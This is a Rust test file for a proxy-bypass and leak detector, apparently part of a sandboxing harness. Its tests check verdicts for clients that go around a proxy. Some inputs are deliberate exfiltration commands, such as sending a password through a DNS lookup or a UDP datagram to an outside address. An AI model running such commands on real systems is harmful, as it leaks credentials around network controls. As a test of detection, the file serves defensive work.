//! Whatever goes around the proxy is seen, wherever it goes.

use crate::{allowed, events, named, verdict};

#[test]
fn a_client_that_ignores_the_proxy_is_caught_for_any_target() {
    if !allowed() {
        return;
    }
    for (url, direct) in [
        // A name of the scenario, addresses of nobody and of somebody, and a port where nobody
        // takes connections.
        ("https://target.badproxy.test/", true),
        ("https://93.184.216.34/", true),
        ("http://10.1.2.3/", true),
        ("http://[2606:4700::1111]/", true),
        ("https://93.184.216.34:8443/", false),
        ("http://[2606:4700::1111]:3128/", false),
    ] {
        let curl = format!("curl -sSk -g --noproxy '*' --max-time 20 '{url}'");
        let (events, played) = events("ok/plain", &curl);
        let stderr = &played.stderr;
        assert_eq!(verdict(&events), "BYPASS", "{url}\n{stderr}");
        assert_eq!(played.code, 1, "{url}");
        let seen = named(&events, "tcp:accepted").iter().any(|data| data["side"] == "direct");
        let dialled = named(&events, "net:egress");
        assert_eq!((seen, dialled.len()), (direct, usize::from(!direct)), "{url}\n{stderr}");
        if !direct {
            assert!(url.contains(dialled[0]["dst"].as_str().unwrap()), "{dialled:?}");
        }
    }
}

/// Whatever is fetched: its name leads to the origin.
#[test]
fn any_name_that_is_fetched_resolves() {
    if !allowed() {
        return;
    }
    let options = "ok/plain --target https://shop.example:443/x --name shop.example";
    let (around, played) = events(options, "curl -sSk --noproxy '*' --max-time 20 {target}");
    assert_eq!(verdict(&around), "BYPASS", "{}", played.stderr);
    let (through, played) = events(options, "curl -sS --max-time 20 {target}");
    assert_eq!(verdict(&through), "PASS", "{}", played.stderr);
}

/// The control of the one above: what uses the proxy is not taken for what goes around it, and the
/// command's own loopback is its own.
#[test]
fn what_stays_inside_is_no_bypass() {
    if !allowed() {
        return;
    }
    let own = "curl -sS {target} && ! curl -sS --noproxy '*' http://127.0.0.1:80/ && \
               ! curl -sS --noproxy '*' http://127.0.0.1:9/";
    let (events, played) = events("ok/plain", own);
    assert_eq!(verdict(&events), "PASS", "{}", played.stderr);
    assert_eq!(events[0]["observable"]["egress"], true);
    assert_eq!(events[0]["observable"]["bypass"], true);
    assert!(named(&events, "net:egress").is_empty());
}

#[test]
fn datagrams_are_noted_and_quic_is_a_bypass() {
    if !allowed() {
        return;
    }
    let send = "curl -sS {target}; for to in 8.8.8.8/53 93.184.216.34/443; do \
                echo x > /dev/udp/$to; done; true";
    let (dns, _) = events("ok/plain", &send.replace("93.184.216.34/443", ""));
    assert_eq!(verdict(&dns), "PASS");
    let notes = &named(&dns, "run:ended")[0]["notes"];
    assert_eq!(
        notes,
        &serde_json::json!(["egress: sent a datagram to 8.8.8.8:53 around the proxy"])
    );
    let (events, _) = events("ok/plain", send);
    assert_eq!(verdict(&events), "BYPASS");
    let seen: Vec<String> = named(&events, "net:egress")
        .iter()
        .map(|data| format!("{} {} {}", data["proto"], data["dst"], data["likely"]))
        .collect();
    assert_eq!(
        seen,
        [
            "\"udp\" \"8.8.8.8:53\" \"DNS to another server\"",
            "\"udp\" \"93.184.216.34:443\" \"QUIC\""
        ]
    );
}

/// In a name or in a datagram, the password is told to whoever listens.
#[test]
fn the_password_around_the_proxy_is_a_leak() {
    if !allowed() {
        return;
    }
    for (send, spot) in [
        ("getent ahosts {pass}.example.com", "name asked of a name server"),
        ("echo {user}:{pass} > /dev/udp/203.0.113.9/514", "datagram around the proxy"),
    ] {
        let (events, _) =
            events("auth/407-basic-then-ok", &format!("curl -sS {{target}}; {send}; true"));
        assert_eq!(verdict(&events), "LEAK", "{send}");
        let measured = named(&events, "verdict:finding")[0]["measured"].to_string();
        assert!(measured.contains(spot), "{measured}");
    }
}

/// Without a proxy in the PAC file, a client that goes to the target itself.
#[test]
fn no_file_is_no_leave_to_go_around() {
    if !allowed() {
        return;
    }
    let direct = "curl -sSf {pac} || curl -sS {target}";
    for scenario in ["pac/404", "pac/truncated"] {
        let (events, played) = events(scenario, direct);
        assert_eq!(verdict(&events), "BYPASS", "{scenario}\n{}", played.stderr);
    }
    // The two ports of the file are the command's own loopback, and no way around.
    let good = "curl -sSf {pac} | grep -q 'PROXY 127.0.0.3' && curl -sS -x {proxy} {target}";
    let (events, played) = events("pac/first-proxy-dead", good);
    assert_eq!(verdict(&events), "PASS", "{}", played.stderr);
    assert!(named(&events, "net:egress").is_empty());
}

/// Where NO_PROXY names the target, the way through the proxy is the wrong one.
#[test]
fn a_target_that_is_not_for_the_proxy() {
    if !allowed() {
        return;
    }
    let curl = "curl -sS --max-time 20";
    for (scenario, client, wanted) in [
        ("pac/no-proxy-host", "{target}", "PASS"),
        ("pac/no-proxy-host", "--noproxy '' -x {proxy} {target}", "BYPASS"),
        ("pac/no-proxy-lookalike", "{target}", "PASS"),
        ("pac/no-proxy-lookalike", "--noproxy proxy.test,badproxy.test {target}", "BYPASS"),
        ("pac/no-proxy-cidr", "{target}", "PASS"),
        ("pac/no-proxy-cidr", "--noproxy '' -x {proxy} {target}", "PASS"),
    ] {
        let (events, played) = events(scenario, &format!("{curl} {client}"));
        let stderr = &played.stderr;
        assert_eq!(verdict(&events), wanted, "{scenario} {client}\n{stderr}");
        let through = !named(&events, "connect:request").is_empty();
        assert_eq!(
            through,
            client.contains("-x") || (scenario.contains("like") && wanted == "PASS")
        );
    }
    let print = "echo \"$NO_PROXY|$no_proxy|$npm_config_noproxy\" >&2";
    for (scenario, wanted) in [
        ("pac/no-proxy-star", "*|*|*"),
        ("pac/no-proxy-upper-variable", "target.badproxy.test||\n"),
        ("pac/no-proxy-lower-variable", "|target.badproxy.test|\n"),
        ("ok/plain", "||\n"),
    ] {
        let played = crate::isolated(scenario, print).env("NO_PROXY", "x").play();
        assert!(played.stderr.contains(wanted), "{scenario}: {}", played.stderr);
    }
}

/// Nothing of the machine is reached: neither its loopback nor its addresses.
#[test]
fn the_machine_is_out_of_reach() {
    if !allowed() {
        return;
    }
    let outside = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let port = outside.local_addr().unwrap().port();
    let curl = format!("! curl -sS --noproxy '*' --max-time 20 http://127.0.0.1:{port}/");
    let (_, played) = events("ok/plain --pass-exit", &curl);
    assert_eq!(played.code, 0, "{}", played.stderr);
    assert_eq!(outside.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
}
